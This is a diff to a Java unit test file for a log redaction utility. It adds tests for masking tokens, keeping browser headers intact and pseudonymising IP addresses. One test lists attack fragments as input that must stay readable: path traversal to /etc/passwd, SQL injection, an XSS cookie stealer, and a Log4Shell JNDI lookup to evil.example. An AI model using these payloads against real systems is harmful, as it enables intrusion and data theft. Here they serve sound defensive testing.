@@ -35,7 +35,9 @@ class RedactionTest {
         "/t/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U, /t/*",
         "/v/a%2Fdozjgc8Ny4J3jVmN2Hl0w%3D, /v/*",
         "/p;jsessionid=1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D/x, /*/x",
-        "/x7f9k2m4p8q1r5t3w6z0, /*"
+        "/x7f9k2m4p8q1r5t3w6z0, /*",
+        "/%78%37f9k2m4%708q1r5t3w6%7A0/x, /*/x",
+        "/%2578%25377f9k2%256D4%25708q1r5t3w6z0, /*"
     })
     void segmentsThatLookLikeTokensAreMasked(String path, String redacted) {
         assertThat(REDACTION.path(path)).isEqualTo(redacted);
@@ -114,6 +116,83 @@ class RedactionTest {
     })
     void aUrlLosesItsSecrets(String url, String redacted) {
         assertThat(REDACTION.url(url)).isEqualTo(redacted);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148",
+                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+                "pt-PT,pt;q=0.8,en-US;q=0.5,en;q=0.3",
+                "100%",
+                "shop.example:8443"
+            })
+    void whatBrowsersSendStays(String text) {
+        assertThat(REDACTION.text(text)).isEqualTo(text);
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "agent/1.0 (key 3f2a9c8b7d6e5f4a3f2a9c8b7d6e5f4a), agent/1.0 (key *)",
+        "x7f9k2m4p8q1r5t3w6z0.shop.example, *.shop.example",
+        "token=dozjgc8Ny4J3jVmN2Hl0w/+x; y, token=*; y",
+        "a %78%37f9k2m4%708q1r5t3w6%7A0 b, a * b"
+    })
+    void wordsWithTokensAreMasked(String text, String redacted) {
+        assertThat(REDACTION.text(text)).isEqualTo(redacted);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "traversal path -: ../../etc/passwd",
+                "sqli query id: 1' or '1'='1' -- ",
+                "sqli query id: union select password from users where id=1 and sleep(5)",
+                "xss query q: <script>alert(document.cookie)</script>",
+                "log4j header user-agent: ${jndi:ldap://evil.example/a}"
+            })
+    void aPieceOfAnAttackStaysReadable(String piece) {
+        assertThat(REDACTION.piece(piece)).isEqualTo(piece);
+    }
+
+    @Test
+    void aPieceOfATokenIsMasked() {
+        assertThat(REDACTION.piece("sqli query id: ' union select k3y5abc9 from"))
+                .isEqualTo("sqli query id: ' union select * from");
+        assertThat(REDACTION.piece("sqli query 3f2a9c8b7d6e5f4a: x")).isEqualTo("sqli query *: x");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "192.0.2.7",
+                "for=192.0.2.7:1234;by=10.0.0.1",
+                "x 2001:db8::7 y",
+                "for=\"[2001:db8::7]:1234\"",
+                "::ffff:192.0.2.7",
+                "2001:DB8:0:0::7",
+                "agent/192.0.2.7",
+                "peer:192.0.2.7",
+                "peer:2001:db8::7",
+                "malformed request: 192.0.2.7 said so."
+            })
+    void noAddressStaysInATextWherePseudonymsAreAskedFor(String text) {
+        assertThat(REDACTION.text(text)).doesNotContainIgnoringCase("192.0.2.7", "2001:db8", "10.0.0.1");
+        assertThat(REDACTION.path("/x/" + text + "/y")).doesNotContainIgnoringCase("192.0.2.7", "2001:db8", "10.0.0.1");
+        assertThat(REDACTION.query(text + "=1&page=" + text))
+                .doesNotContainIgnoringCase("192.0.2.7", "2001:db8", "10.0.0.1");
+        assertThat(new Redaction(Set.of(), false, KEY).text(text)).isEqualTo(text);
+    }
+
+    @Test
+    void anAddressInATextHasThePseudonymThatItHasElsewhere() {
+        assertThat(REDACTION.text("from 192.0.2.7, 2001:db8::7"))
+                .isEqualTo("from " + REDACTION.address("192.0.2.7") + ", " + REDACTION.address("2001:db8::7"));
     }
 
     @Test
